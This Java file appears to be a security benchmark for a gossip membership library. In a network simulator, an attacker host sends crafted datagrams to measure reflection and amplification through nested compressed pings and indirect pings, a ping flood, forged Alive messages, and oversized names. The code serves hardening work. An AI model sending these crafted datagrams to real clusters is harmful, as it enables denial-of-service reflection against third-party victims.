package io.memberlist.core;

import static io.memberlist.core.SimRecorder.MS;
import static io.memberlist.core.SimRecorder.SEC;
import static io.memberlist.core.SimRecorder.memberNames;

import io.memberlist.Endpoint;
import io.memberlist.codec.Alive;
import io.memberlist.codec.Compound;
import io.memberlist.codec.Compression;
import io.memberlist.codec.IndirectPingReq;
import io.memberlist.codec.Messages;
import io.memberlist.codec.Ping;
import io.memberlist.testing.RawHost;
import io.memberlist.testing.SimCompletion;
import io.memberlist.testing.SimNetwork;
import io.memberlist.testing.SimNode;
import java.util.ArrayList;
import java.util.List;

/**
 * A command, not a test: the issue 9 engine rows as figures (what {@link HostileInputTest}
 * asserts), on the production node in the simulator, an attacker host sending raw datagrams:
 *
 * <pre>
 * java -cp memberlist/target/test-classes:memberlist/target/classes:$(cat cp.txt) \
 *     io.memberlist.core.HostileBench
 * </pre>
 */
public final class HostileBench {
    private HostileBench() {}

    static final Endpoint VICTIM = new Endpoint(new byte[] {10, 9, 9, 9}, 7946);

    public static void main(String[] args) {
        reflection();
        indirectReflection();
        flood();
        forgedAlive();
        hugeName();
    }

    /** The attacker sends {@code datagram} to {@code node}; returns once it was handled. */
    static void receive(SimRecorder s, RawHost attacker, SimNode node, byte[] datagram) {
        attacker.sendDatagram(node, datagram);
        s.runFor(MS);
    }

    static void reflection() {
        SimRecorder s = SimRecorder.lan(3);
        SimNode a = s.add("a");
        s.add("b");
        s.add("c");
        s.joinAll("a");
        s.runUntil(s::converged, 5 * SEC);
        RawHost attacker = s.sim.addRawHost("mallory");
        s.sent.clear();
        byte[] ping = Messages.encode(new Ping(1, "", VICTIM.ip(), VICTIM.port(), "victim"));
        List<byte[]> inner = new ArrayList<>();
        for (int i = 0; i < 150; i++) {
            inner.add(ping);
        }
        List<byte[]> outer = new ArrayList<>();
        for (int i = 0; i < 127; i++) {
            outer.add(Compound.encode(inner));
        }
        byte[] datagram = Compression.compress(Compound.encode(outer));
        receive(s, attacker, a, datagram);
        s.runFor(5 * SEC);
        System.out.printf("reflection: one %d-byte datagram of %d pings -> %d packets (%d bytes) to the"
                + " victim%n", datagram.length, 150 * 127, count(s, VICTIM), bytes(s, VICTIM));
    }

    static void indirectReflection() {
        SimRecorder s = SimRecorder.lan(3);
        SimNode a = s.add("a");
        RawHost attacker = s.sim.addRawHost("mallory");
        Endpoint from = attacker.node().endpoint();
        s.sent.clear();
        byte[] req = Messages.encode(new IndirectPingReq(1, VICTIM.ip(), VICTIM.port(),
                "victim", false, from.ip(), from.port(), ""));
        List<byte[]> inner = new ArrayList<>();
        for (int i = 0; i < 150; i++) {
            inner.add(req);
        }
        List<byte[]> outer = new ArrayList<>();
        for (int i = 0; i < 40; i++) {
            outer.add(Compound.encode(inner));
        }
        byte[] datagram = Compression.compress(Compound.encode(outer));
        receive(s, attacker, a, datagram);
        s.runFor(5 * SEC);
        System.out.printf("indirect reflection: one %d-byte datagram of %d indirect pings -> %d packets"
                + " (%d bytes) to the victim%n", datagram.length, 150 * 40, count(s, VICTIM), bytes(s, VICTIM));
    }

    static void flood() {
        SimRecorder s = SimRecorder.lan(4);
        SimNode a = s.add("a");
        RawHost attacker = s.sim.addRawHost("mallory");
        s.sent.clear();
        long in = 0;
        for (int i = 0; i < 2000; i++) {
            byte[] d = Messages.encode(new Ping(i, "", VICTIM.ip(), VICTIM.port(), ""));
            in += d.length;
            receive(s, attacker, a, d);
        }
        System.out.printf("ping flood: 2000 datagrams (%d bytes) in 2 s -> %d acks (%d bytes) to the victim%n",
                in, count(s, VICTIM), bytes(s, VICTIM));
    }

    static void forgedAlive() {
        SimRecorder s = SimRecorder.lan(1);
        SimNode a = s.add("a");
        SimNode b = s.add("b");
        RawHost attacker = s.sim.addRawHost("mallory");
        receive(s, attacker, a, Messages.encode(new Alive(7, "phantom", new byte[] {10, 7, 7, 7}, 7946, null, null)));
        SimCompletion<SimNetwork.JoinOutcome> join = s.sim.join(b, a);
        s.runFor(100 * MS);
        System.out.printf("alive without Vsn: a stores it: %s; b joins a: %s%n",
                memberNames(a).contains("phantom"), join);
    }

    static void hugeName() {
        SimRecorder s = SimRecorder.lan(2);
        SimNode a = s.add("a");
        RawHost attacker = s.sim.addRawHost("mallory");
        receive(s, attacker, a, Messages.encode(new Alive(7, "n".repeat(65_000), new byte[] {10, 7, 7, 7}, 7946,
                null, Alive.vsn(1, 5, 2, 0, 0, 0))));
        receive(s, attacker, a, Messages.encode(new Alive(7, "fat", new byte[] {10, 7, 7, 8}, 7946,
                new byte[60_000], Alive.vsn(1, 5, 2, 0, 0, 0))));
        System.out.printf("65,000-byte name, 60,000-byte meta: members stored %d of 2%n", a.engine().numMembers() - 1);
    }

    private static int count(SimRecorder s, Endpoint to) {
        return (int) s.sent.stream().filter(x -> x.to().equals(to)).count();
    }

    private static long bytes(SimRecorder s, Endpoint to) {
        return s.sent.stream().filter(x -> x.to().equals(to)).mapToLong(x -> x.datagram().length).sum();
    }
}
